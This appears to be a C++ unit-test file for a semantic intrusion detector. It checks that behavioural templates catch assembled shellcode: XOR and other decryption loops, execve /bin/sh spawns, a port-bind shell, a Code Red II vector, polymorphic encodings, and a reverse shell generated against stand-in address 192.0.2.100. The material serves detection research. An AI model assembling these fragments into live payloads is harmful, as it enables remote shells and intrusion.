#include <gtest/gtest.h>

#include "one_shot.hpp"
#include "gen/emitter.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "ir/lifter.hpp"
#include "semantic/library.hpp"
#include "semantic/template.hpp"

namespace senids::semantic {
namespace {

using gen::Asm;
using gen::R32;
using gen::R8;
using util::Bytes;

/// Trace, lift, and match one template against a code buffer. Every
/// call lifts into one result, so a match's bindings stay valid until the
/// next run_match.
std::optional<MatchResult> run_match(const Template& t, const Bytes& code,
                                     std::size_t entry = 0) {
  static ir::LiftResult lifted;
  auto trace = test::trace(code, entry);
  ir::lift(trace, lifted);
  LiftedCode lc{&trace, &lifted.events, code};
  return match_template(t, lc);
}

// Figure 1(a): xor byte [eax], 0x95 ; inc eax ; loop decode.
Bytes figure_1a() {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.inc_r32(R32::eax);
  a.loop_(head);
  return a.finish();
}

// Figure 1(b): key built in ebx, add-advance.
Bytes figure_1b() {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  a.xor_mem8_r8(R32::eax, R8::bl);
  a.add_r32_imm(R32::eax, 1);
  a.loop_(head);
  return a.finish();
}

// Figure 1(c): garbage instructions + out-of-order blocks chained by jmp.
Bytes figure_1c() {
  Asm a;
  auto one = a.new_label();
  auto two = a.new_label();
  auto three = a.new_label();
  auto decode = a.new_label();
  a.bind(decode);
  a.mov_r32_imm32(R32::ecx, 0);  // garbage
  a.inc_r32(R32::ecx);           // garbage
  a.inc_r32(R32::ecx);           // garbage
  a.jmp_short(one);
  a.bind(two);
  a.add_r32_imm(R32::eax, 1);
  a.jmp_short(three);
  a.bind(one);
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  a.xor_mem8_r8(R32::eax, R8::bl);
  a.jmp_short(two);
  a.bind(three);
  a.loop_(decode);
  return a.finish();
}

TEST(Template, XorTemplateMatchesFigure1a) {
  auto m = run_match(builtin_template("xor-decrypt-loop"), figure_1a());
  ASSERT_TRUE(m.has_value());
  ASSERT_EQ(m->matched_events.size(), 3u);
  // The key variable must have bound to 0x95.
  ASSERT_TRUE(m->bindings.contains("K"));
  std::uint32_t k;
  ASSERT_TRUE(ir::is_const(m->bindings["K"], &k));
  EXPECT_EQ(k, 0x95u);
}

TEST(Template, XorTemplateMatchesFigure1b) {
  // Same template, register-built key: the semantic point of the paper.
  auto m = run_match(builtin_template("xor-decrypt-loop"), figure_1b());
  ASSERT_TRUE(m.has_value());
  std::uint32_t k;
  ASSERT_TRUE(ir::is_const(m->bindings["K"], &k));
  EXPECT_EQ(k, 0x95u);
}

TEST(Template, XorTemplateMatchesFigure1c) {
  // Garbage + out-of-order code: still the same behaviour.
  auto m = run_match(builtin_template("xor-decrypt-loop"), figure_1c());
  ASSERT_TRUE(m.has_value());
}

TEST(Template, OneTemplateAllThreeFigures) {
  // The headline claim of Figure 2: one template, three syntaxes.
  const Template& t = builtin_template("xor-decrypt-loop");
  EXPECT_TRUE(run_match(t, figure_1a()).has_value());
  EXPECT_TRUE(run_match(t, figure_1b()).has_value());
  EXPECT_TRUE(run_match(t, figure_1c()).has_value());
}

TEST(Template, RegisterReassignmentTolerated) {
  // Same behaviour with esi as pointer and dl as key register.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r8_imm8(R8::dl, 0x42);
  a.xor_mem8_r8(R32::esi, R8::dl);
  a.inc_r32(R32::esi);
  a.loop_(head);
  auto m = run_match(builtin_template("xor-decrypt-loop"), a.finish());
  ASSERT_TRUE(m.has_value());
}

TEST(Template, DecJnzLoopBackAccepted) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::edi, 0x11);
  a.inc_r32(R32::edi);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_TRUE(run_match(builtin_template("xor-decrypt-loop"), a.finish()).has_value());
}

TEST(Template, NoLoopNoMatch) {
  // Straight-line xor-advance without a back edge is not a decoder.
  Asm a;
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.inc_r32(R32::eax);
  a.ret();
  EXPECT_FALSE(run_match(builtin_template("xor-decrypt-loop"), a.finish()).has_value());
}

TEST(Template, NoAdvanceNoMatch) {
  // Looping xor over one fixed byte transforms nothing.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.loop_(head);
  EXPECT_FALSE(run_match(builtin_template("xor-decrypt-loop"), a.finish()).has_value());
}

TEST(Template, ZeroKeyNoMatch) {
  // xor with 0 is the identity — the nonzero constraint must reject it.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x00);
  a.inc_r32(R32::eax);
  a.loop_(head);
  EXPECT_FALSE(run_match(builtin_template("xor-decrypt-loop"), a.finish()).has_value());
}

TEST(Template, AdvanceViaDifferentEncodings) {
  for (int variant = 0; variant < 4; ++variant) {
    Asm a;
    auto head = a.new_label();
    a.bind(head);
    a.xor_mem8_imm8(R32::esi, 0x77);
    switch (variant) {
      case 0: a.inc_r32(R32::esi); break;
      case 1: a.add_r32_imm(R32::esi, 1); break;
      case 2: a.sub_r32_imm(R32::esi, -1); break;
      default: a.lea(R32::esi, R32::esi, 1); break;
    }
    a.loop_(head);
    EXPECT_TRUE(run_match(builtin_template("xor-decrypt-loop"), a.finish()).has_value())
        << "variant " << variant;
  }
}

TEST(Template, DerivedPointerAdvance) {
  // Pointer from jmp/call/pop folds to a constant; advance must still
  // register (the iis-asp-overflow shape).
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  auto lloop = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::esi);
  a.bind(lloop);
  a.xor_mem8_imm8(R32::esi, 0x95);
  a.inc_r32(R32::esi);
  a.loop_(lloop);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::to_bytes("ENCODEDENCODED"));
  EXPECT_TRUE(run_match(builtin_template("xor-decrypt-loop"), a.finish()).has_value());
}

TEST(Template, AddDecoderMatchesAddTemplateNotXor) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(0, R32::eax, 0x21);  // add byte [eax], 0x21
  a.inc_r32(R32::eax);
  a.loop_(head);
  Bytes code = a.finish();
  EXPECT_TRUE(run_match(builtin_template("add-decrypt-loop"), code).has_value());
  EXPECT_FALSE(run_match(builtin_template("xor-decrypt-loop"), code).has_value());
}

TEST(Template, SubDecoderAlsoMatchesAddTemplate) {
  // sub byte [eax], k normalizes to add of the negated key.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(5, R32::eax, 0x21);  // sub byte [eax], 0x21
  a.inc_r32(R32::eax);
  a.loop_(head);
  EXPECT_TRUE(run_match(builtin_template("add-decrypt-loop"), a.finish()).has_value());
}

TEST(Template, AltDecoderMatchesOnlyAltTemplate) {
  // The Figure-7 mov/or/and/not scheme.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r8_mem(R8::al, R32::esi);
  a.alu_r8_imm8(1, R8::al, 0x5a);  // or al, k
  a.mov_r8_mem(R8::bl, R32::esi);
  a.alu_r8_imm8(4, R8::bl, 0x5a);  // and bl, k
  a.not_r8(R8::bl);
  a.alu_r8_r8(4, R8::al, R8::bl);  // and al, bl
  a.mov_mem_r8(R32::esi, 0, R8::al);
  a.inc_r32(R32::esi);
  a.loop_(head);
  Bytes code = a.finish();
  EXPECT_TRUE(run_match(builtin_template("admmutate-alt-decoder"), code).has_value());
  EXPECT_FALSE(run_match(builtin_template("xor-decrypt-loop"), code).has_value());
}

TEST(Template, XorDecoderDoesNotMatchAltTemplate) {
  EXPECT_FALSE(run_match(builtin_template("admmutate-alt-decoder"), figure_1a()).has_value());
}

TEST(Template, RorDecoderMatchesRorTemplate) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r8_mem(R8::al, R32::esi);
  a.shift_r8_imm8(1, R8::al, 3);  // ror al, 3
  a.mov_mem_r8(R32::esi, 0, R8::al);
  a.inc_r32(R32::esi);
  a.loop_(head);
  EXPECT_TRUE(run_match(builtin_template("ror-decrypt-loop"), a.finish()).has_value());
}

TEST(Template, ShellSpawnPushedString) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.push_r32(R32::eax);
  a.push_imm32(0x68732f2f);
  a.push_imm32(0x6e69622f);
  a.mov_r32_r32(R32::ebx, R32::esp);
  a.push_r32(R32::eax);
  a.push_r32(R32::ebx);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.cdq();
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  EXPECT_TRUE(run_match(builtin_template("shell-spawn-pushed-string"), a.finish()).has_value());
}

TEST(Template, ShellSpawnWrongSyscallNumberRejected) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.push_r32(R32::eax);
  a.push_imm32(0x68732f2f);
  a.push_imm32(0x6e69622f);
  a.mov_r8_imm8(R8::al, 0x0c);  // not execve
  a.int_imm(0x80);
  EXPECT_FALSE(run_match(builtin_template("shell-spawn-pushed-string"), a.finish()).has_value());
}

TEST(Template, ShellSpawnEmbeddedString) {
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::ebx);
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::to_bytes("/bin/sh"));
  EXPECT_TRUE(run_match(builtin_template("shell-spawn-embedded-string"), a.finish()).has_value());
}

TEST(Template, EmbeddedStringChecksActualBytes) {
  // Same code but the data is NOT "/bin..." — must not match.
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::ebx);
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::to_bytes("/tmp/xy"));
  EXPECT_FALSE(run_match(builtin_template("shell-spawn-embedded-string"), a.finish()).has_value());
}

TEST(Template, PortBindSequence) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.inc_r32(R32::ebx);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x02);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x04);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x05);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  EXPECT_TRUE(run_match(builtin_template("port-bind-shell"), a.finish()).has_value());
}

TEST(Template, PortBindOutOfOrderSubcallsRejected) {
  // accept before bind: the ordered template must not fire.
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.inc_r32(R32::ebx);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x05);  // accept
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x02);  // bind
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  EXPECT_FALSE(run_match(builtin_template("port-bind-shell"), a.finish()).has_value());
}

TEST(Template, CodeRedVector) {
  Asm a;
  a.nop();
  a.nop();
  a.pop_r32(R32::eax);
  a.push_imm32(0x7801cbd3);
  a.nop();
  a.ret();
  EXPECT_TRUE(run_match(builtin_template("code-red-ii-vector"), a.finish()).has_value());
}

TEST(Template, EmptyTemplateNeverMatches) {
  Template t;
  t.name = "empty";
  EXPECT_FALSE(run_match(t, figure_1a()).has_value());
}

TEST(Template, TooManyVariablesRefusedNotMisMatched) {
  // One variable past the slots: the template is refused loudly, never
  // matched with a variable left unchecked.
  Template t;
  t.name = "many-vars";
  for (std::size_t i = 0; i <= kMaxTemplateVars; ++i) {
    t.stmts.push_back(st_mem_write(p_any("V" + std::to_string(i)), p_any()));
  }
  EXPECT_THROW(MatchPlan{t}, std::invalid_argument);
  EXPECT_THROW(run_match(t, figure_1a()), std::invalid_argument);
  t.stmts.pop_back();
  EXPECT_NO_THROW(MatchPlan{t});
}

TEST(Template, MatchReportsOffsets) {
  auto m = run_match(builtin_template("xor-decrypt-loop"), figure_1a());
  ASSERT_TRUE(m.has_value());
  EXPECT_EQ(m->start_offset, 0u);  // the xor is the first instruction
}

TEST(Template, ThreatClassNames) {
  EXPECT_EQ(threat_class_name(ThreatClass::kDecryptionLoop), "decryption-loop");
  EXPECT_EQ(threat_class_name(ThreatClass::kShellSpawn), "shell-spawn");
  EXPECT_EQ(threat_class_name(ThreatClass::kPortBindShell), "port-bind-shell");
  EXPECT_EQ(threat_class_name(ThreatClass::kCodeRedII), "code-red-ii");
}

TEST(Template, ReverseShellTemplate) {
  // socket -> connect -> execve matches; bind-shell's socket/bind path
  // must not satisfy the connect template.
  {
    auto code = gen::make_reverse_shell(0xC0000264u /*192.0.2.100*/, 0x5c11u);
    auto m = run_match(builtin_template("reverse-shell"), code);
    EXPECT_TRUE(m.has_value());
  }
  {
    auto binder = gen::make_shell_spawn_corpus()[8].code;
    EXPECT_FALSE(run_match(builtin_template("reverse-shell"), binder).has_value());
  }
}

TEST(Template, StandardLibraryContents) {
  // 8 classic 32-bit templates + 4 x86_64 variants (stack/embedded
  // shell-spawn, port-bind, reverse shell).
  auto lib = make_standard_library();
  EXPECT_EQ(lib.size(), 12u);
  EXPECT_EQ(make_extended_library().size(), 13u);
  auto xor_only = make_xor_only_library();
  EXPECT_EQ(xor_only.size(), 1u);
  EXPECT_EQ(xor_only[0].name, "xor-decrypt-loop");
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

TEST(Template, FnstenvDecoderMatchesStatically) {
  // The lifter resolves the fnstenv FIP to a constant buffer offset, so
  // the xor template sees the same derived-constant pointer walk as the
  // call/pop form.
  auto payload = gen::make_fnstenv_decoder_payload(0x7e);
  auto trace = test::trace(payload, 0);
  ir::LiftResult lifted;
  ir::lift(trace, lifted);
  LiftedCode lc{&trace, &lifted.events, payload};
  EXPECT_TRUE(match_template(builtin_template("xor-decrypt-loop"), lc).has_value());
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

TEST(Template, FormatMatchExplainsStatements) {
  auto code = figure_1a();
  auto trace = test::trace(code, 0);
  ir::LiftResult lifted;
  ir::lift(trace, lifted);
  LiftedCode lc{&trace, &lifted.events, code};
  const Template& t = builtin_template("xor-decrypt-loop");
  auto m = match_template(t, lc);
  ASSERT_TRUE(m.has_value());
  const std::string text = format_match(t, lc, *m);
  EXPECT_NE(text.find("xor-decrypt-loop"), std::string::npos);
  EXPECT_NE(text.find("store"), std::string::npos);
  EXPECT_NE(text.find("advance"), std::string::npos);
  EXPECT_NE(text.find("loopback"), std::string::npos);
  EXPECT_NE(text.find("xor byte ptr [eax], 0x95"), std::string::npos);
  EXPECT_NE(text.find("K = 0x95"), std::string::npos);
}

TEST(Template, CounterSanityAllowsEngineInstances) {
  // Regression guard: every engine path (call/pop and fnstenv, both
  // schemes) must still match after the counter-sanity constraint.
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (double fnstenv_p : {0.0, 1.0}) {
    for (double xor_p : {0.0, 1.0}) {
      gen::PolyOptions opts;
      opts.fnstenv_getpc_prob = fnstenv_p;
      opts.xor_scheme_prob = xor_p;
      util::Prng prng(static_cast<std::uint64_t>(fnstenv_p * 2 + xor_p) + 900);
      auto poly = gen::admmutate_encode(payload, prng, opts);
      bool hit = false;
      for (const auto& t : make_decoder_library()) {
        if (run_match(t, poly.bytes, 0).has_value()) hit = true;
      }
      // Entry 0 starts at the sled; trace flows through the decoder.
      EXPECT_TRUE(hit) << "fnstenv=" << fnstenv_p << " xor=" << xor_p;
    }
  }
}

}  // namespace
}  // namespace senids::semantic
